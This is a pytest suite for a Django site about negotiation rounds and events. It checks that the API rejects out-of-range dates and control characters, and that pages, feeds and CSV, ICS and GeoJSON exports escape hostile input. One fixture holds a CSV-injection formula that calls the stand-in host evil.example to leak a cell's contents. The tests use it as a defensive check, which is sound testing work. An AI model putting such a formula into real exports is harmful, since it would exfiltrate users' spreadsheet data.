"""Every value the API accepts renders on every page, feed and export; the rest is a 422."""

import csv
import io
import json

import pytest
from icalendar import Calendar

from rounds.models import Event, Round

# Writes name the version they change; "*" is "whatever it is now" (see tests/api_helpers.py).
REASON = {"HTTP_X_CHANGE_REASON": "Hostile suite", "HTTP_IF_MATCH": "*"}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2)'
QUOTED_TITLE = 'The "Astana" <b>format</b> & co'
PAGES = [
    "/",
    "/rounds/",
    "/rounds/90/",
    "/events/",
    "/events/edge-early/",
    "/events/edge-late/",
    "/zones/",
    "/search/?q=Astana",
    "/articles/",
    "/feeds/latest.atom",
    "/feeds/meetings.ics",
]
EXPORTS = [
    "rounds/?format=csv",
    "rounds/?format=timelinejs",
    "events/?format=csv",
    "events/?format=ics",
    "events/?format=timelinejs",
    "statements/?format=csv",
    "zones/?format=geojson",
    "zones/?format=csv",
    "places/?format=geojson",
    "citations/?format=csv",
    "changes/?format=json",
]


@pytest.fixture
def boundary_records(analyst_api):
    """Records at the edges of what is accepted, saved through the API like a client would."""
    created = [
        analyst_api.post(
            "/api/v1/rounds/",
            {
                "number": 90,
                "name": QUOTED_TITLE,
                "city": "Astana",
                "start_date": "1990-01-01",
                "end_date": "2100-12-31",
                "outcomes": [FORMULA, "+1 more", "-minus", "@at"],
            },
            format="json",
            **REASON,
        ),
        analyst_api.post(
            "/api/v1/events/",
            {
                "slug": "edge-early",
                "kind": "summit",
                "title": FORMULA,
                "start_date": "1990-01-01",
                "end_date": "1990-01-01",
            },
            format="json",
            **REASON,
        ),
        analyst_api.post(
            "/api/v1/events/",
            {
                "slug": "edge-late",
                "kind": "summit",
                "title": QUOTED_TITLE + "\tand a tab\nand a line",
                "start_date": "2100-12-31",
                "status": "announced",
            },
            format="json",
            **REASON,
        ),
    ]
    for response in created:
        assert response.status_code == 201, response.content
    return created


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("start_date", "9999-12-31"),
        ("start_date", "0001-01-01"),
        ("start_date", "1989-12-31"),
        ("end_date", "2101-01-01"),
    ],
)
def test_event_dates_outside_1990_2100_are_a_clear_422(analyst_api, field, value):
    body = {"slug": "far", "kind": "summit", "title": "Far", "start_date": "2020-01-01"}
    response = analyst_api.post("/api/v1/events/", {**body, field: value}, format="json", **REASON)
    assert response.status_code == 422
    error = response.json()["error"]
    assert field in error["detail"] and "1990-01-01" in error["message"]
    assert not Event.objects.filter(slug="far").exists()


@pytest.mark.django_db
@pytest.mark.parametrize("char", ["\x00", "\x0b", "\x0c", "\x1f", "\x7f", "\ud800", "\uffff"])
def test_control_characters_in_text_are_refused(analyst_api, char):
    body = json.dumps({"title": f"Sochi{char}congress"})  # ASCII: a lone surrogate as \ud800
    response = analyst_api.patch(
        "/api/v1/events/sochi-congress/", body, content_type="application/json", **REASON
    )
    assert response.status_code in (400, 422)
    assert response.json()["error"]["detail"]
    assert "congress" in Event.objects.get(slug="sochi-congress").title.lower()
    assert char not in Event.objects.get(slug="sochi-congress").title


@pytest.mark.django_db
def test_control_characters_inside_lists_are_refused(analyst_api):
    response = analyst_api.patch(
        "/api/v1/rounds/8/", {"outcomes": ["fine", "not\x0bfine"]}, format="json", **REASON
    )
    assert response.status_code == 422
    assert "outcomes" in response.json()["error"]["detail"]


@pytest.mark.django_db
def test_admin_refuses_a_date_out_of_range_with_a_form_error(analyst_client):
    event = Event.objects.get(slug="sochi-congress")
    response = analyst_client.get(f"/admin/rounds/event/{event.pk}/change/")
    assert response.status_code == 200
    form = response.context["adminform"].form
    data = {k: v for k, v in form.initial.items() if v is not None and not isinstance(v, list)}
    data.update({"start_date": "9999-12-31", "_change_reason": "x"})
    errors = type(form)(data=data, instance=event).errors
    assert "start_date" in errors and "1990" in str(errors["start_date"])


@pytest.mark.django_db
@pytest.mark.parametrize("path", PAGES)
def test_boundary_values_render_on_every_page(client, boundary_records, path):
    response = client.get(path)
    assert response.status_code == 200, (path, response.content[:300])


@pytest.mark.django_db
@pytest.mark.parametrize("path", EXPORTS)
def test_boundary_values_render_in_every_export_format(api_client, boundary_records, path):
    response = api_client.get(f"/api/v1/{path}&page_size=500")
    assert response.status_code == 200, (path, response.content[:300])
    if "format=ics" in path:
        assert Calendar.from_ical(response.content).walk("VEVENT")
    elif "format=csv" in path:
        assert list(csv.reader(io.StringIO(response.content.decode())))
    else:
        json.loads(response.content)


@pytest.mark.django_db
def test_round_pages_show_the_boundary_round_and_its_detail_in_the_api(
    api_client, boundary_records
):
    body = api_client.get("/api/v1/rounds/90/").json()
    assert body["start_date"] == "1990-01-01" and body["end_date"] == "2100-12-31"
    assert Round.objects.get(number=90).outcomes[0] == FORMULA


@pytest.mark.django_db
def test_csv_neutralises_formulas_in_every_cell_lists_included(api_client, boundary_records):
    rows = csv.DictReader(
        io.StringIO(api_client.get("/api/v1/rounds/?format=csv&page_size=500").content.decode())
    )
    row = next(r for r in rows if r["number"] == "90")
    assert row["outcomes"].startswith("'=HYPERLINK")
    events = csv.DictReader(
        io.StringIO(api_client.get("/api/v1/events/?format=csv&page_size=500").content.decode())
    )
    for event in events:
        for cell in event.values():
            assert not (cell or "").startswith(("=", "+", "-", "@")), cell


@pytest.mark.django_db
def test_chart_hover_text_is_escaped_once(client, boundary_records):
    page = client.get("/").content.decode()
    script = page.split('id="timeline-figure" type="application/json">', 1)[1]
    figure = json.loads(script.split("</script>", 1)[0])["figure"]
    hover = json.dumps([t.get("customdata") for t in figure["data"]], ensure_ascii=False)
    assert 'The \\"Astana\\" &lt;b&gt;format&lt;/b&gt; &amp; co' in hover
    assert "&quot;" not in hover and "&#x27;" not in hover and "&amp;amp;" not in hover


@pytest.mark.django_db
def test_a_control_character_stored_before_validation_does_not_break_the_atom_feed(client):
    newest = Event.objects.order_by("-created", "-pk").first()
    Event.objects.filter(pk=newest.pk).update(title="Old\x0brecord")
    response = client.get("/feeds/latest.atom")
    assert response.status_code == 200
    assert b"Oldrecord" in response.content
